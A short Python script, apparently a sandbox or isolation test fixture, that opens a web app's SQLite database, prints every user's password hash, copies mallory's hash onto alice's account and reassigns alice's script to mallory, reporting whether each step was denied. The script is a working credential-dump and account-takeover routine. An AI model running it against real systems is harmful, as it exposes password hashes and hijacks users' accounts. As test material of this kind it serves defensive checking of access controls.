"""Attack: open the SQLite database, list the password hashes, give alice's account
mallory's password hash and move alice's script to mallory.

Prints "HASHES <rows>", "TAMPERED <path>" or "DENIED <path> <error>".
"""
import json
import os
import sqlite3

KNOWN = json.loads("__KNOWN__")


def database_paths():
    paths = [KNOWN["database"]]
    instance = os.environ.get("VISUALIZER_INSTANCE")
    if instance:
        paths.append(os.path.join(instance, os.path.basename(KNOWN["database"])))
    url = os.environ.get("VISUALIZER_DATABASE_URL", "")
    if url.startswith("sqlite:///"):
        paths.append(url[len("sqlite:///"):])
    return list(dict.fromkeys(paths))


for path in database_paths():
    try:
        connection = sqlite3.connect("file:%s?mode=rw" % path, uri=True, timeout=5)
        rows = connection.execute("SELECT id, username, password_hash FROM user").fetchall()
        print("HASHES", rows, flush=True)
        mallory = [row for row in rows if row[1] == KNOWN["mallory_username"]][0]
        connection.execute("UPDATE user SET password_hash = ? WHERE id = ?",
                           (mallory[2], KNOWN["alice_id"]))
        connection.execute("UPDATE script SET user_id = ? WHERE id = ?",
                           (mallory[0], KNOWN["alice_script_id"]))
        connection.commit()
        connection.close()
        print("TAMPERED", path, flush=True)
    except Exception as error:  # the attack reports whatever stopped it
        print("DENIED", path, repr(error), flush=True)
print("ATTACK-END", flush=True)
